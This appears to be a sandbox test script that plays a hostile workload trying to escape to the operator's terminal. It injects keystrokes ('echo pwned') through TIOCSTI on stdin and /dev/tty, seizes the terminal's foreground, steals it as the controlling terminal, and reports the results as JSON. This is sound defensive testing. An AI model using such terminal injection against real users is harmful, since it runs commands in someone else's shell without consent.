"""A workload that tries to reach the operator's terminal (issue 8, finding 1).

Run inside a sandbox: tries TIOCSTI on its standard input and on /dev/tty,
a foreground takeover of its standard input's terminal, and stealing that
terminal as its controlling one; writes what happened as JSON to argv[1]
(or stdout). "ok" means the attack worked.
"""
import fcntl
import json
import os
import sys
import termios

results = {}


def attempt(name, action):
    try:
        action()
        results[name] = "ok"
    except OSError as error:
        results[name] = error.errno


def inject(fd):
    for byte in b"echo pwned\n":
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))


def dev_tty():
    fd = os.open("/dev/tty", os.O_RDWR)
    try:
        inject(fd)
    finally:
        os.close(fd)


attempt("tiocsti_stdin", lambda: inject(0))
attempt("tiocsti_dev_tty", dev_tty)
attempt("foreground_stdin", lambda: os.tcsetpgrp(0, os.getpgrp()))
attempt("steal_controlling_terminal", lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 1))
text = json.dumps(results)
if len(sys.argv) > 1:
    with open(sys.argv[1], "w") as out:
        out.write(text)
else:
    print(text)
